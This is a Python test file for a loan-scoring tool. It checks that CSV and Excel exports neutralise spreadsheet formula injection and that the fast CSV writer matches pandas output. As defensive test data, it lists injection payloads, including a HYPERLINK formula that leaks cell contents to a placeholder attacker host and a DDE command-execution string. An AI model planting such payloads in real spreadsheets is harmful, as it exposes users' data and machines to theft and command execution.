"""Files Loan Desk writes are safe to open in Excel: no input cell becomes a live formula, in CSV or
XLSX, and the text a person sees is kept. Checked on real files written by ``loandesk score`` and
opened back with openpyxl and the csv module; the fast CSV writer prints exactly what pandas prints."""

from __future__ import annotations

import csv
from pathlib import Path

import numpy as np
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from openpyxl import load_workbook

from loandesk.cli import main
from loandesk.lists.safe_cells import neutralise, safe_text
from loandesk.lists.writing import write_table

pd = pytest.importorskip("pandas")

DATA = Path(__file__).resolve().parents[1] / "data" / "scoring"
AS_OF = ["--as-of", "2026-11-22"]
HEAD = ["enterprise_name", "industry", "registered_on", "employees", "annual_revenue", "total_assets", "tax_grade",
        "tax_paid_12m", "tax_paid_24m", "invoice_sales_12m", "social_insurance_headcount", "abnormal_operation",
        "dishonest_debtor", "has_loan_history", "requested_amount", "term_months", "note"]  # fmt: skip
ROW = ["杭州恒瑞贸易有限公司", "RET", "2019-03-01", "12", "3000000", "1000000", "B", "60000", "110000", "2700000",
       "9", "否", "否", "否", "500000", "12", "ok"]  # fmt: skip
ATTACKS = ['=HYPERLINK("http://evil.example/?leak="&A1,"click")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
           "\tTAB=1", "\r=1", "＝1+1", "＋1", "－1", "＠SUM(A1)"]  # fmt: skip


def _input(tmp_path: Path) -> Path:
    src = tmp_path / "in.csv"
    rows = []
    for i, attack in enumerate(ATTACKS):
        row = list(ROW)
        row[0] = attack  # the name: free text echoed in the output
        row[-1] = "-12.5" if i % 2 else "note"  # a text column: a negative number here is quoted too
        rows.append(row)
    with open(src, "w", newline="", encoding="utf-8") as fh:
        w = csv.writer(fh)
        w.writerow([*HEAD, "=1+1"])  # a header from the user's file
        w.writerows([*r, "x"] for r in rows)
    return src


def test_score_to_xlsx_writes_no_formula_and_shows_the_same_text(tmp_path):
    src, out = _input(tmp_path), tmp_path / "out.xlsx"
    assert main(["--lang", "en", "score", "--input", str(src), "--output", str(out), *AS_OF]) == 0
    sheet = load_workbook(out).active
    cells = [c for row in sheet.iter_rows() for c in row]
    assert cells and all(c.data_type != "f" for c in cells)  # not one formula anywhere
    header = [c.value for c in sheet[1]]
    assert header[: len(HEAD)] == HEAD and header[len(HEAD)] == "=1+1" and sheet.cell(1, len(HEAD) + 1).quotePrefix
    names = [sheet.cell(r, 1) for r in range(2, len(ATTACKS) + 2)]
    # the text is kept exactly, no quote added to it (XML itself reads a carriage return as a line feed)
    assert [c.value for c in names] == [a.replace("\r", "\n") for a in ATTACKS]
    assert all(c.data_type == "s" and c.quotePrefix for c in names)  # and stays text when edited in Excel
    score = header.index("score") + 1
    assert all(isinstance(sheet.cell(r, score).value, int | float) for r in range(2, len(ATTACKS) + 2))  # numbers


def test_score_to_csv_quotes_formula_cells_and_keeps_numbers(tmp_path):
    src, out = _input(tmp_path), tmp_path / "out.csv"
    assert main(["--lang", "en", "score", "--input", str(src), "--output", str(out), *AS_OF]) == 0
    with open(out, encoding="utf-8-sig", newline="") as fh:
        rows = list(csv.reader(fh))
    header, body = rows[0], rows[1:]
    assert header[len(HEAD)] == "'=1+1"
    assert [r[0] for r in body] == ["'" + a for a in ATTACKS]  # a leading quote, then the same text
    note = HEAD.index("note")
    assert [r[note] for r in body][:2] == ["note", "'-12.5"]  # -12.5 in a text column is quoted (OWASP)
    for r in body:
        for cell in r:
            assert not cell or cell[0] not in "=+-@\t\r＝＋－＠"
    assert float(body[0][header.index("score")]) > 0 and body[0][header.index("limit")].isdigit()


def test_negative_numbers_in_a_numeric_column_stay_numbers(tmp_path):
    """An optbinning scoring file: -9 and -1.0 are special codes in numeric columns; they are data.
    -inf is not a plain number (Excel would read it as a formula), so it is quoted."""
    out = tmp_path / "ob.csv"
    assert main(["--lang", "en", "score", "--input", str(DATA / "ob_data.csv"), "--output", str(out),
                 "--scorecard", str(DATA / "ob_card.csv"), "--special", "avg_annual_tax=-1",
                 "--special", "employees=-9"]) == 0  # fmt: skip
    rows = list(csv.DictReader(open(out, encoding="utf-8-sig", newline="")))
    employees = {r["employees"] for r in rows}
    taxes = {r["avg_annual_tax"] for r in rows}
    assert "-9" in employees and "-1" in taxes and "'-inf" in taxes and "-inf" not in taxes
    scores = [float(r["score"]) for r in rows]
    want = [float(r["score"]) for r in csv.DictReader(open(DATA / "ob_scores.csv"))]
    assert scores == pytest.approx(want, abs=1e-9)


def test_neutralise_rules():
    frame = pd.DataFrame({"text": ["=1", "-3", "x", None], "amounts": ["-12.5", "3", "", "NA"],
                          "points": [-1.5, 2.0, np.nan, -0.0], "@h": ["a", "b", "c", "d"]})  # fmt: skip
    safe = neutralise(frame)
    assert list(safe.columns) == ["text", "amounts", "points", "'@h"]
    assert safe["text"].tolist()[:3] == ["'=1", "'-3", "x"] and pd.isna(safe["text"].iloc[3])
    assert safe["amounts"].tolist() == ["-12.5", "3", "", "NA"]  # a column of amounts: numbers stay numbers
    assert safe["points"].tolist()[:2] == [-1.5, 2.0]  # numeric columns are never touched
    assert list(frame.columns) == ["text", "amounts", "points", "@h"] and frame["text"].iloc[0] == "=1"
    assert safe_text("-inf") == "'-inf" and safe_text("abc") == "abc"


texts = st.text(alphabet=st.sampled_from([*list("ab,\"\n =+-@'中 1."), "\t", "＝"]), max_size=6)


@settings(max_examples=60, deadline=None)
@given(st.lists(st.tuples(st.one_of(st.none(), texts), st.floats(allow_nan=True, allow_infinity=True, width=32),
                          st.integers(-10**12, 10**12), st.booleans(), st.sampled_from(["A", "B", "=C"])),
                min_size=0, max_size=40))  # fmt: skip
def test_fast_csv_is_byte_for_byte_what_pandas_writes(tmp_path_factory, rows):
    """Apart from the neutralised cells (which both get), the file is pandas' to_csv text."""
    frame = pd.DataFrame(rows, columns=["text", "float", "int", "bool", "grade"])
    if not rows:
        frame = frame.astype({"float": float, "int": np.int64, "bool": bool})
    frame["float32"] = frame["float"].astype(np.float32) if len(frame) else np.zeros(0, dtype=np.float32)
    frame["mixed"] = pd.Series([r[2] if r[3] else r[0] for r in rows], dtype=object)
    path = tmp_path_factory.mktemp("csv") / "t.csv"
    write_table(frame, path)
    want = neutralise(frame).to_csv(index=False, encoding="utf-8-sig", lineterminator=None)
    assert path.read_bytes() == ("\ufeff" + want).encode("utf-8")


def test_many_rows_take_the_distinct_value_path(tmp_path):
    n = 30_000
    rng = np.random.default_rng(4)
    frame = pd.DataFrame({"grade": np.where(np.arange(n) % 3 == 0, "=A", "B,c"), "score": np.arange(n) / 7,
                          "name": [f"n{i}" if i % 5 else f"-{i}" for i in range(n)],
                          # neighbours with few values: joined once per combination
                          "points": rng.choice([-12.5, 0.0, 7.25, np.nan], n), "flag": rng.random(n) < 0.5,
                          "decision": rng.choice(["approve", "refer", "decline"], n),
                          "limit": rng.choice([0, 10_000, 150_000], n),
                          "reasons": rng.choice(["", "a；b", '"x"'], n)})  # fmt: skip
    path = tmp_path / "t.csv"
    write_table(frame, path)
    assert path.read_bytes() == ("\ufeff" + neutralise(frame).to_csv(index=False)).encode("utf-8")
    assert not (tmp_path / "t.csv.part").exists()


def test_too_many_rows_for_excel_is_refused_and_leaves_nothing(tmp_path, monkeypatch):
    from loandesk.lists import writing
    from loandesk.scoring.batch import BatchError
    from loandesk.scoring.batch import write_table as batch_write

    monkeypatch.setattr(writing, "EXCEL_MAX_ROWS", 4)  # a sheet of 3 rows + header, as Excel has 1,048,575 + 1
    frame = pd.DataFrame({"a": ["x"] * 5, "b": range(5)})
    with pytest.raises(BatchError) as err:
        batch_write(frame, tmp_path / "big.xlsx")
    assert "write CSV" in err.value.message("en") and "CSV" in err.value.message("zh")
    assert list(tmp_path.iterdir()) == []
    batch_write(frame.head(3), tmp_path / "ok.xlsx")
    assert [c.value for c in load_workbook(tmp_path / "ok.xlsx").active["A"]] == ["a", "x", "x", "x"]
